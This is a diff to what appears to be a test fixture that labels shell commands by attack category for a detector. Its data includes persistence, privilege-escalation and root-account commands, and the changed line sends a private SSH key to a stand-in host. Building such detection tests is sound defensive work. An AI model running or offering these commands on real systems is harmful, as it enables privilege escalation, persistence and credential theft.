@@ -196,7 +196,7 @@ LINES = [
     ("cp x /etc/systemd/system/x.service", "persistence.service"),
     ("ln -sf /tmp/x /etc/init.d/x", "persistence.service"),
     ("mv k ~/.ssh/authorized_keys", "persistence.ssh_key"),
-    ("ssh-copy-id bob@host.test", "persistence.ssh_key"),
+    ("ssh bob@host.test 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_rsa", "credential.read"),
     ("chmod u+s /bin/bash", "privilege.setuid"),
     ("usermod -aG sudo ada", "account.privileged"),
     ("echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", "privilege.accounts"),
